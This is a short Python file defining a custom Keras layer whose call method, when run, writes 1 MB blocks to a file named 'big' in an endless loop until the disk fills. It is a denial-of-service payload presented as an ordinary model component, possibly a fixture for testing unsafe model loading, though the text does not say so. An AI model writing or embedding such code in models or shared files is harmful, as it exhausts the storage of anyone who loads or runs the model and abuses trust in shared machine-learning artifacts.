import keras


class Layer(keras.layers.Layer):
    def call(self, inputs):
        with open("big", "wb") as file:
            while True:
                file.write(b"x" * (1 << 20))
